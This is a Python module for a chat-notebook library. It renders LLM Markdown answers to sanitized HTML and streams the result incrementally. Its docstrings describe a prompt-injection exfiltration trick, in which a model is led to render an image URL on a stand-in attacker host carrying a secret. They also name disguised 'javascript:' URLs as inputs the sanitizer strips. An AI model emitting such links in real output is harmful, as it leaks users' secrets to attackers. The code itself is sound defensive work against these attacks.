"""Markdown -> sanitized HTML, whole (`render_markdown`) or incrementally (`MarkdownStream`).

Every piece of model output is untrusted: a model repeats whatever a web page, a document
or a user slipped into its context, so its Markdown is treated like HTML from a stranger.
Two layers keep script out of the notebook page:

1. Raw HTML in the Markdown source is *escaped*, not interpreted: `<b>` shows as the text
   "<b>". That is what chat UIs do; it loses nothing an answer needs (Markdown has syntax
   for all of it), and no sanitizer bug can turn a tag the model wrote into a live one.
2. The HTML that Python-Markdown produces is then cleaned by nh3 (ammonia) with a strict
   allowlist of tags, attributes and URL schemes, so even a bug in a Markdown extension
   cannot emit a script-capable element, an event handler or a `javascript:` URL.

Remote images are the classic exfiltration channel of prompt injection (the model is told
to render `![x](https://evil.example/?q=<secret>)` and the browser sends the secret just by
loading it), so by default an image becomes a link the reader may choose to follow.
"""

from __future__ import annotations

import html
import re
import threading
import xml.etree.ElementTree as etree
from dataclasses import dataclass
from typing import Literal

import markdown
import nh3
from markdown.extensions import Extension
from markdown.preprocessors import Preprocessor
from markdown.treeprocessors import Treeprocessor
from pygments.formatters import HtmlFormatter
from pygments.token import STANDARD_TYPES

from streamchat import _markdown

__all__ = ["MarkdownStream", "Patch", "highlight_css", "render_markdown"]

CODE_CLASS = "streamchat-code"  # wrapper <div> of a highlighted code block
IMAGE_MARK = "🖼"

_EXTENSIONS = [
    "tables",
    "sane_lists",
    "pymdownx.superfences",
    "pymdownx.highlight",
    "pymdownx.tilde",
    "pymdownx.tasklist",
    "pymdownx.magiclink",
]
_EXTENSION_CONFIGS = {
    # Classes, not inline styles: the page's theme (light/dark) picks the colours.
    "pymdownx.highlight": {
        "css_class": CODE_CLASS,
        "pygments_lang_class": True,
        "guess_lang": False,
    },
    # Any info string opens a fence ("```python title=x.py"), as in CommonMark.
    "pymdownx.superfences": {"relaxed_headers": True},
    # "~x~" subscript would eat the tildes of "~5 min ~ 10 min"; only "~~x~~" strikes.
    "pymdownx.tilde": {"subscript": False},
    "tables": {"use_align_attribute": True},
}


class _CommonMarkLines(Preprocessor):
    """Applies `_markdown.normalize` (lists after paragraphs, two-space nesting, tables)."""

    def run(self, lines: list[str]) -> list[str]:
        return _markdown.normalize(lines)


class _ImagesAsLinks(Treeprocessor):
    """Turns each <img> into a link labelled with its alt text, so nothing loads by itself."""

    def run(self, root: etree.Element) -> None:
        self._walk(root, inside_link=False)

    def _walk(self, parent: etree.Element, inside_link: bool) -> None:
        for index, child in enumerate(list(parent)):
            if child.tag == "img":
                parent[index] = _image_link(child, "span" if inside_link else "a")
            else:
                self._walk(child, inside_link or child.tag == "a")


def _image_link(image: etree.Element, tag: str) -> etree.Element:
    link = etree.Element(tag)
    if tag == "a":
        link.set("href", image.get("src", ""))
    if image.get("title"):
        link.set("title", image.get("title", ""))
    link.text = f"{IMAGE_MARK} {image.get('alt') or 'image'}"
    link.tail = image.tail
    return link


class _StreamchatExtension(Extension):
    def __init__(self, allow_images: bool) -> None:
        super().__init__()
        self.allow_images = allow_images

    def extendMarkdown(self, md: markdown.Markdown) -> None:
        # Raw HTML becomes text: without these two, Python-Markdown passes it through.
        md.preprocessors.deregister("html_block")
        md.inlinePatterns.deregister("html")
        # After whitespace normalisation (30), before fences are stashed (25).
        md.preprocessors.register(_CommonMarkLines(md), "streamchat_lines", 28)
        if not self.allow_images:
            # After inline patterns made the <img> elements (20).
            md.treeprocessors.register(_ImagesAsLinks(md), "streamchat_images", 15)


_local = threading.local()  # a Markdown instance is stateful: one per thread


def _converter(allow_images: bool) -> markdown.Markdown:
    key = f"md_{allow_images}"
    md = getattr(_local, key, None)
    if md is None:
        md = markdown.Markdown(
            extensions=[*_EXTENSIONS, _StreamchatExtension(allow_images)],
            extension_configs=_EXTENSION_CONFIGS,
            # Keep the number an ordered list starts at: answers often interrupt
            # "1. ... 2. ..." with a code block and go on with "3.".
            lazy_ol=False,
        )
        setattr(_local, key, md)
    return md


# --- sanitizing -----------------------------------------------------------------------------

_TAGS = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote"),
    *("strong", "em", "del", "code", "pre", "span", "div", "a"),
    *("ul", "ol", "li", "input"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
_ATTRIBUTES = {
    "*": {"class"},
    "a": {"href", "title"},
    "span": {"title"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "input": {"checked"},
}
_ATTRIBUTE_VALUES = {
    "input": {"type": {"checkbox"}},
    "th": {"align": {"left", "center", "right"}},
    "td": {"align": {"left", "center", "right"}},
}
_SET_ATTRIBUTES = {"a": {"target": "_blank"}, "input": {"disabled": "disabled"}}
_URL_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u00ad\u200b-\u200f\u2028\u2029\u2060\ufeff]+")
_PYGMENTS_CLASSES = frozenset(STANDARD_TYPES.values()) - {""}
_SUBTOKEN_CLASS = re.compile(r"[a-z]{1,3}[0-9]?(?:-[A-Z][A-Za-z0-9]*)+")
_OTHER_CLASSES = frozenset({CODE_CLASS, "task-list", "task-list-item"})
_LANGUAGE_CLASS = re.compile(r"language-[\w+#.\-]{1,40}")


def _safe_url(value: str) -> str | None:
    """Drop a URL whose scheme is not http(s)/mailto, however it is disguised.

    nh3 already checks the scheme after decoding entities; this second check also removes
    every control, space and invisible character anywhere in the value (browsers strip some
    of them: https://url.spec.whatwg.org/#concept-basic-url-parser), so "java&#x09;script:"
    or "\\x01javascript:" cannot slip through a difference between two URL parsers.
    """
    probe = _INVISIBLE.sub("", html.unescape(value)).lower()
    scheme = _SCHEME.match(probe)
    if scheme is not None and scheme.group(1) not in _URL_SCHEMES:
        return None
    return value


def _safe_classes(value: str) -> str | None:
    kept = [
        name
        for name in value.split()
        if name in _PYGMENTS_CLASSES
        or name in _OTHER_CLASSES
        or _SUBTOKEN_CLASS.fullmatch(name)
        or _LANGUAGE_CLASS.fullmatch(name)
    ]
    return " ".join(kept) or None


def _attribute_filter(element: str, attribute: str, value: str) -> str | None:
    """Keep highlighting classes (allowed_classes with a class attribute panics in nh3)."""
    if attribute == "class":
        return _safe_classes(value)
    if attribute in ("href", "src"):
        return _safe_url(value)
    if attribute == "start":
        return value if value.isdigit() and len(value) <= 9 else None
    return value


def _sanitize(html_text: str, allow_images: bool) -> str:
    return nh3.clean(
        html_text,
        tags=_TAGS | {"img"} if allow_images else _TAGS,
        clean_content_tags={"script", "style"},
        attributes=_ATTRIBUTES,
        attribute_filter=_attribute_filter,
        link_rel="noopener noreferrer",
        tag_attribute_values=_ATTRIBUTE_VALUES,
        set_tag_attribute_values=_SET_ATTRIBUTES,
        url_schemes=_URL_SCHEMES,
    )


def render_markdown(text: str, *, allow_images: bool = False) -> str:
    """Render an LLM answer (CommonMark/GFM as models write it) to sanitized HTML.

    Supported: headings, emphasis, ~~strikethrough~~, `code`, fenced code highlighted by
    Pygments (token classes inside ``<div class="language-X streamchat-code">``, coloured
    by static/highlight.css), tables, task lists, lists after a paragraph, nested lists
    indented by two spaces, bare URLs as links, block quotes, rules.

    Raw HTML is escaped (shown as text); links open in a new tab with
    rel="noopener noreferrer" (the opened page gets no handle on the notebook:
    https://html.spec.whatwg.org/multipage/links.html#link-type-noopener); only
    http(s)/mailto (and relative) URLs survive; images become "🖼 alt" links unless
    `allow_images` is true.
    """
    md = _converter(allow_images)
    md.reset()
    return _sanitize(md.convert(text), allow_images)


def highlight_css(light: str = "default", dark: str = "github-dark") -> str:
    """The Pygments colours for code blocks, scoped under `.streamchat`, light and dark.

    Dark applies when JupyterLab says so (body[data-jp-theme-light="false"]) and, where no
    Jupyter theme attribute exists, when the OS prefers dark
    (https://drafts.csswg.org/mediaqueries-5/#prefers-color-scheme). Only the background
    and token parts of `HtmlFormatter.get_style_defs` are used: its `pre` and line-number
    rules are unscoped and would restyle the whole notebook page.
    """
    scope = f".streamchat .{CODE_CLASS}"
    jupyter_dark = _style_rules(dark, f'body[data-jp-theme-light="false"] {scope}')
    system_dark = _style_rules(dark, f"body:not([data-jp-theme-light]) {scope}")
    indented = "\n".join("  " + line for line in system_dark.splitlines())
    return (
        "/* Generated by streamchat.render.highlight_css() from the Pygments styles "
        f"{light!r} (light) and {dark!r} (dark).\n"
        "   Regenerate: python -c 'from streamchat.render import highlight_css; "
        'print(highlight_css(), end="")\' > src/streamchat/static/highlight.css */\n'
        f"{_style_rules(light, scope)}\n"
        f"{jupyter_dark}\n"
        f"@media (prefers-color-scheme: dark) {{\n{indented}\n}}\n"
    )


def _style_rules(style: str, scope: str) -> str:
    formatter = HtmlFormatter(style=style)
    rules = [*formatter.get_background_style_defs(scope), *formatter.get_token_style_defs(scope)]
    return "\n".join(rules)


# --- incremental rendering --------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Patch:
    """A change to the rendered HTML.

    append: add `html` after the frozen part; it never changes again.
    tail: replace the live (unfinished) last part with `html`.
    reset: replace everything (frozen and tail) with `html`; the tail becomes empty.
    """

    op: Literal["append", "tail", "reset"]
    html: str


class MarkdownStream:
    """Renders a growing Markdown answer, sending only what changed.

    Why: a full re-render costs ~54 ms per update at 20,000 characters and re-sends the
    whole HTML each time, so it falls behind a 120 chars/s typewriter and the work grows
    quadratically with the answer. Here a top-level block is rendered once, when later
    text proves it cannot change any more ("append"), and only the open last block is
    re-rendered on each update ("tail"), so the cost per update stays flat.

    A block is finished at a line that starts a new top-level block after a blank line,
    outside any fence, and that cannot merge with the block above (a list item after a
    list, a quote after a quote do merge): `_markdown.BlockScanner` decides, the same code
    that rewrites the source for Python-Markdown. The open block is repaired before it is
    rendered (`_markdown.repair`), so an unclosed fence shows as a code block and
    unfinished emphasis, code spans and links never show their markers.

    After `finish()`, `html == render_markdown(text)`; if a late line changed an earlier
    block (a reference-link definition does), `finish()` sends a "reset".
    """

    def __init__(self, *, allow_images: bool = False) -> None:
        self._allow_images = allow_images
        self._scanner = _markdown.BlockScanner()
        self._frozen_text = ""
        self._frozen_html = ""
        self._tail = ""  # source of the open block
        self._scanned = 0  # where the first line of the open block not yet scanned starts
        self._tail_html = ""  # the tail as last sent
        self._finished = False

    @property
    def text(self) -> str:
        return self._frozen_text + self._tail

    @property
    def html(self) -> str:
        return self._frozen_html + self._tail_html

    def append(self, delta: str) -> list[Patch]:
        if self._finished:
            raise RuntimeError("MarkdownStream.append() after finish()")
        self._tail += delta
        patches = []
        frozen = self._freeze_finished_blocks()
        if frozen:
            patches.append(Patch("append", frozen))
        tail = self._joined(self._render(_markdown.repair(self._tail)), self._frozen_html)
        if tail != self._tail_html:
            self._tail_html = tail
            patches.append(Patch("tail", tail))
        return patches

    def finish(self) -> list[Patch]:
        """Render the last block as final; check the result against a full render."""
        if self._finished:
            return []
        self._finished = True
        patches = []
        last = self._joined(self._render(self._tail), self._frozen_html)
        self._frozen_text += self._tail
        self._tail = ""
        if last:
            self._frozen_html += last
            patches.append(Patch("append", last))
        if self._tail_html:
            self._tail_html = ""
            patches.append(Patch("tail", ""))
        full = render_markdown(self._frozen_text, allow_images=self._allow_images)
        if full != self._frozen_html:
            self._frozen_html = full
            patches.append(Patch("reset", full))
        return patches

    def _freeze_finished_blocks(self) -> str:
        frozen = []
        while (end := self._tail.find("\n", self._scanned)) >= 0:
            start = self._scanned
            source = self._tail[start:end].rstrip("\r").expandtabs(_markdown.TAB)
            line = self._scanner.feed(source)
            self._scanned = end + 1
            if line.starts_block and start > 0:
                block_html = self._joined(self._render(self._tail[:start]), self._frozen_html)
                self._frozen_html += block_html
                frozen.append(block_html)
                self._frozen_text += self._tail[:start]
                self._tail = self._tail[start:]
                self._scanned -= start
        return "".join(frozen)

    def _render(self, text: str) -> str:
        return render_markdown(text, allow_images=self._allow_images)

    @staticmethod
    def _joined(block_html: str, before: str) -> str:
        """Python-Markdown puts one newline between top-level elements."""
        return "\n" + block_html if before and block_html else block_html
